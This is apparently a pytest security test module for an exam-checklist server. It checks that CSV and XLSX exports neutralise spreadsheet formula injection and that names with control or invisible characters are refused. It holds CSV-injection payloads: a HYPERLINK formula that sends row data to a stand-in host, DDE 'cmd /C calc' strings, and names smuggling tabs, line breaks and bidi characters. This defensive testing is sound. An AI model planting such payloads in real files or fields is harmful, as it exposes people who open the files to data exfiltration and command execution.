"""Injection into files people open: text from a client landing at the start of a CSV or XLSX cell becomes a
spreadsheet formula when an archivist or a methodologist opens the file (`=HYPERLINK("http://x/?"&A2,"open")`
sends the row away on a click; `=cmd|...` is DDE). Every CSV and XLSX the server writes must quote such cells
(OWASP: a leading apostrophe for cells beginning with = + - @ tab CR); names carrying control or invisible
characters must be refused where they come in, naming the field."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest

from checklists.loader import DATA_DIR, load_checklist
from checklists.marks import MarkEvent as WireEvent

from .conftest import PASSWORD, SCHEDULE_DAY, Stand, export_package

CATEGORY = "injection into files users open"

FORMULAS = ['=HYPERLINK("http://x/?"&A2,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CPR = load_checklist(DATA_DIR / "01_basic_cpr_adult.yaml")


def live_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as a formula (a plain number with a sign is a number, not a formula)."""
    out = []
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def signed_sheets(attempt: str, station: str, examiners: dict[str, set[int]], checklist_hash: str,
                  items: list[int]) -> list[dict[str, Any]]:
    """Each examiner marks every item (done when in their set) and signs."""
    out = []
    for examiner, done in examiners.items():
        for seq, n in enumerate(items, start=1):
            out.append(WireEvent.new(attempt_id=attempt, station_id=station, examiner=examiner, kind="mark",
                                     checklist_hash=checklist_hash, seq=seq, item=n, done=n in done,
                                     recording_offset_s=float(seq)).to_json())
        out.append(WireEvent.new(attempt_id=attempt, station_id=station, examiner=examiner, kind="finalise",
                                 checklist_hash=checklist_hash, seq=len(items) + 1).to_json())
    return out


def scheduled_station(stand: Stand, new_station: Any) -> tuple[str, str]:
    code, _, _ = new_station()
    attempt = f"att-{code}"
    stand.schedule(code, attempt)
    return code, attempt


def quality_csv(stand: Stand) -> list[list[str]]:
    reply = stand.request("GET", f"/api/reports/quality?exam_day={SCHEDULE_DAY[:10]}&specialty=nursing&format=csv",
                          stand.user("archivist", csrf=False))
    assert reply.status == 200, reply.body[:300]
    return read_csv(reply.body)


def formula_marks_refused(stand: Stand, code: str, attempt: str, names: list[str]) -> None:
    """Marks naming an examiner by a formula never reach a file: an examiner is a login (who signed in on the
    tablet), and a station's marks are refused unless that login's tablet key signed them (issue 16, case 2)."""
    for name in names:
        events = signed_sheets(attempt, code, {name: set(CPR.item_numbers[:10])}, CPR.content_hash,
                               CPR.item_numbers[:3])
        reply = stand.post_marks(code, events, sign=False)
        assert reply.status in (403, 422), (reply.status, reply.body[:300])
        assert reply.json()["where"].startswith("events[0]"), reply.body[:300]


def test_an_examiners_name_is_no_formula_in_the_export_packages_protocol(stand: Stand, new_station: Any,
                                                                        tmp_path: Path) -> None:
    code, attempt = scheduled_station(stand, new_station)
    formula_marks_refused(stand, code, attempt, [FORMULAS[0]])
    events = signed_sheets(attempt, code, {"examiner": set(CPR.item_numbers[:10])}, CPR.content_hash,
                           CPR.item_numbers)
    assert stand.post_marks(code, events).status == 200
    with zipfile.ZipFile(export_package(stand, [attempt], tmp_path / "p.zip")) as zf:
        rows = read_csv(zf.read("protocol.csv"))
    assert live_cells(rows) == [], rows
    assert not any(FORMULAS[0] in cell for row in rows for cell in row)


def test_examiners_names_are_no_formulas_in_the_quality_reports_discrepancies(stand: Stand,
                                                                             new_station: Any) -> None:
    code, attempt = scheduled_station(stand, new_station)
    formula_marks_refused(stand, code, attempt, FORMULAS[1:3])
    examiners = {"examiner": set(CPR.item_numbers), "examiner2": set(CPR.item_numbers[1:])}
    assert stand.post_marks(code, signed_sheets(attempt, code, examiners, CPR.content_hash,
                                                CPR.item_numbers)).status == 200
    rows = quality_csv(stand)
    assert any(attempt in row for row in rows)  # the discrepancy of this attempt is in the file
    assert live_cells(rows) == [], [c for c in live_cells(rows)]


def test_a_checklist_action_is_no_formula_in_the_quality_report(stand: Stand, new_station: Any) -> None:
    """An uploaded checklist version whose first action is a formula (the admin's file from elsewhere)."""
    source = (DATA_DIR / "01_basic_cpr_adult.yaml").read_text(encoding="utf-8")
    source = source.replace("action: Убедиться в безопасности места происшествия для себя и пострадавшего",
                            f"action: {json.dumps(FORMULAS[3])}").replace('version: "2026.1"',
                                                                f'version: "sec-{uuid.uuid4().hex[:6]}"')
    up = stand.request("POST", "/api/checklist-versions", {**stand.user("admin"), "Content-Type": "text/yaml"},
                       source.encode("utf-8"))
    assert up.status == 201, up.body
    checklist_hash = up.json()["sha256"]
    code, attempt = scheduled_station(stand, new_station)
    assert stand.post_marks(code, signed_sheets(attempt, code, {"examiner": {1, 2}}, checklist_hash,
                                                CPR.item_numbers)).status == 200
    rows = quality_csv(stand)
    assert any(cell == "'" + FORMULAS[3] for row in rows for cell in row), rows[:5]
    assert live_cells(rows) == []


NAMED = [
    ("POST", "/api/users", {"login": "zq-tab", "password": PASSWORD, "role": "observer",
                            "display_name": "Иванов\t=1+1"}, "display_name"),
    ("POST", "/api/stations", {"code": "ZQbidi", "name": "Комната 1\u202e3 йонмок"}, "name"),
    ("POST", "/api/specialties", {"code": "zq-ls", "name": "Лечебное дело\u2028=1+1"}, "name"),
    ("POST", "/api/export-requests", {"number": "7", "date": "2026-07-01", "requester": "суд\u200b"}, "requester"),
    ("POST", "/api/exam-days", {"day": "2026-07-02", "title": "день\r\n=1+1"}, "title"),
]


@pytest.mark.parametrize(("method", "path", "body", "field"), NAMED, ids=[f"{p} {f}" for _, p, _, f in NAMED])
def test_a_name_with_control_or_invisible_characters_is_refused_naming_the_field(
        stand: Stand, method: str, path: str, body: dict[str, Any], field: str) -> None:
    who = "archivist" if "export" in path else "admin"
    reply = stand.json_request(method, path, body, stand.user(who))
    assert reply.status == 422, (reply.status, reply.body[:300])
    assert reply.json()["where"] == field


def test_an_examiner_name_with_a_line_break_is_refused_in_station_marks(stand: Stand) -> None:
    event = WireEvent.new(attempt_id="att-s1", station_id="S1", examiner="Петрова\r\n=1+1", kind="mark",
                          checklist_hash="c" * 64, seq=9, item=9, done=True).to_json()
    reply = stand.post_marks("S1", [event])
    assert reply.status == 422 and reply.json()["where"] == "events[0].examiner", reply.body[:300]


def test_the_command_line_refuses_a_display_name_with_a_tab(stand: Stand, tmp_path: Path) -> None:
    (tmp_path / "pw").write_text(PASSWORD + "\n", encoding="utf-8")
    done = stand.osce("server", "user", "add", f"zq{uuid.uuid4().hex[:6]}", "--role", "observer",
                      "--display-name", "\t=2+5", "--password-file", str(tmp_path / "pw"),
                      "--config", str(stand.config()))
    assert done.returncode == 2 and "display name" in done.stderr, done.stdout + done.stderr
